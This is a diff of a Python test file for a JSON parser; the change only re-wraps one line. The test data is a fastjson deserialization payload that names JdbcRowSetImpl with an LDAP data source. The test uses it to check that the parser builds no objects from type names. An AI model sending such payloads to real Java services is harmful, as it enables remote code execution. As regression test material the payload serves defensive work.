@@ -64,7 +64,9 @@ def test_nesting_without_end_is_a_value_error() -> None:
 
 def test_a_type_in_json_makes_no_object() -> None:
     """fastjson made objects of the class that a text names, which ran code of the sender's choice."""
-    text = b'{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://h/x",0:{"@type":"java.lang.AutoCloseable"}}'
+    text = (
+        b'{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://h/x",0:{"@type":"java.lang.AutoCloseable"}}'
+    )
     assert loads(text) == {
         "@type": "com.sun.rowset.JdbcRowSetImpl",
         "dataSourceName": "ldap://h/x",
